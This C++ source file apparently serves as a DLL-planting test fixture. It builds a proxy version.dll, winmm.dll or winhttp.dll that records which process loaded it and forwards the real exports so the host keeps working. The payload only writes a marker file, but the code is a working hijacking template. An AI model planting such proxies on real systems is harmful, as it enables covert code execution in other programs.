// A stranger's copy of a system DLL (version.dll, winmm.dll or winhttp.dll, picked by
// PLANTED_DLL), as a program of the user's could drop it beside the downloaded installer.
// Whichever process loads it appends the path of its executable to "<dll>-loaded.txt" beside
// the DLL. The functions the installer and the control program use forward to the system's copy,
// so a process that loads it still works, as a real attack would want.
// The forwarders spell the system's types as plain pointers: the system headers declare these
// functions as imports, which a definition here would contradict.
#include <windows.h>

namespace {

#define PLANTED_VERSION 1
#define PLANTED_WINMM 2
#define PLANTED_WINHTTP 3

#if PLANTED_DLL == PLANTED_VERSION
const wchar_t kName[] = L"version.dll";
#elif PLANTED_DLL == PLANTED_WINMM
const wchar_t kName[] = L"winmm.dll";
#else
const wchar_t kName[] = L"winhttp.dll";
#endif

// By full path: the bare name would find this very DLL, already loaded under that name.
HMODULE SystemCopy() {
    static HMODULE real = [] {
        wchar_t path[MAX_PATH] = {};
        UINT length = GetSystemDirectoryW(path, MAX_PATH - 16);
        if (length == 0 || length >= MAX_PATH - 16) return static_cast<HMODULE>(nullptr);
        path[length] = L'\\';
        lstrcpyW(path + length + 1, kName);
        return LoadLibraryW(path);
    }();
    return real;
}

template <typename Fn>
Fn Real(const char* name) {
    HMODULE real = SystemCopy();
    return real ? reinterpret_cast<Fn>(reinterpret_cast<void*>(GetProcAddress(real, name))) : nullptr;
}

void LeaveMarker(HINSTANCE self) {
    wchar_t path[MAX_PATH] = {};
    DWORD length = GetModuleFileNameW(self, path, MAX_PATH - 40);
    while (length > 0 && path[length - 1] != L'\\') --length;
    lstrcpyW(path + length, kName);
    lstrcatW(path, L"-loaded.txt");
    wchar_t loader[MAX_PATH] = {};
    GetModuleFileNameW(nullptr, loader, MAX_PATH);
    HANDLE marker = CreateFileW(path, FILE_APPEND_DATA, FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr,
                                OPEN_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
    if (marker == INVALID_HANDLE_VALUE) return;
    char line[MAX_PATH * 3 + 2] = {};
    int bytes = WideCharToMultiByte(CP_UTF8, 0, loader, -1, line, MAX_PATH * 3, nullptr, nullptr);
    if (bytes > 0) {
        line[bytes - 1] = '\n';
        DWORD written = 0;
        WriteFile(marker, line, static_cast<DWORD>(bytes), &written, nullptr);
    }
    CloseHandle(marker);
}

}  // namespace

using Pointer = void*;

#define FORWARD(result, name, params, args)                      \
    extern "C" __declspec(dllexport) result WINAPI name params { \
        auto real = Real<result(WINAPI*) params>(#name);         \
        return real ? real args : result();                      \
    }

extern "C" BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID) {
    if (reason == DLL_PROCESS_ATTACH) LeaveMarker(self);
    return TRUE;
}

#if PLANTED_DLL == PLANTED_VERSION
FORWARD(DWORD, GetFileVersionInfoSizeW, (LPCWSTR file, LPDWORD handle), (file, handle))
FORWARD(BOOL, GetFileVersionInfoW, (LPCWSTR file, DWORD handle, DWORD size, LPVOID data),
        (file, handle, size, data))
FORWARD(BOOL, VerQueryValueW, (LPCVOID block, LPCWSTR sub, LPVOID* buffer, PUINT length),
        (block, sub, buffer, length))
#elif PLANTED_DLL == PLANTED_WINMM
FORWARD(DWORD, timeGetTime, (), ())
FORWARD(UINT, timeSetEvent, (UINT delay, UINT resolution, void* callback, DWORD_PTR user, UINT flags),
        (delay, resolution, callback, user, flags))
FORWARD(UINT, timeKillEvent, (UINT id), (id))
#else
FORWARD(Pointer, WinHttpOpen, (LPCWSTR agent, DWORD access, LPCWSTR proxy, LPCWSTR bypass, DWORD flags),
        (agent, access, proxy, bypass, flags))
FORWARD(BOOL, WinHttpCloseHandle, (void* handle), (handle))
FORWARD(BOOL, WinHttpGetProxyForUrl, (void* session, LPCWSTR url, void* options, void* info),
        (session, url, options, info))
FORWARD(BOOL, WinHttpGetIEProxyConfigForCurrentUser, (void* config), (config))
#endif
